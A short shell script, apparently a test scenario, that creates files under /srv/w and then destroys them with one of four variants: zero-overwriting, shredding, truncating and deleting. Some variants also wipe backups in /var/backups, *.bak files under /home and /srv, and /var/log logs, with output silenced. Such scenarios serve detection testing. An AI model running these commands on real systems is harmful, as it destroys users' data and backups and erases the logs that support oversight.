# Destroyed, not taken.
#--- setup
d=/srv/w; mkdir -p $d/x $d/y; i=0; while [ $i -lt 50 ]; do head -c 2000 /dev/urandom >$d/x/f$i; echo $i >$d/y/g$i; i=$((i + 1)); done
#--- attack
d=/srv/w
case $((v % 4)) in
0) find $d -type f -exec dd if=/dev/zero of={} bs=2000 count=1 \; ; rm -rf $d/x $d/y ;;
1) for f in $d/x/* $d/y/*; do shred -n 1 -u $f || { head -c 2000 /dev/urandom >$f; rm -f $f; }; done ;;
2) for f in $d/*/*; do : >$f; mv $f $d/0; done; rm -f $d/0; rm -rf /var/backups/set /var/backups/*.gz /var/backups/*.enc; find /home /srv -name '*.bak' -delete ;;
3) if have python3; then python3 -c "
import os
for r,_,n in os.walk('$d'):
    for f in n:
        p=os.path.join(r,f); open(p,'r+b').write(b'\0'*64); os.truncate(p,0); os.remove(p)"; else for f in $d/*/*; do truncate -s 0 $f; rm -f $f; done; fi; rm -f /var/log/*.log ;;
esac >/dev/null 2>&1
#--- cleanup
rm -rf /srv/w
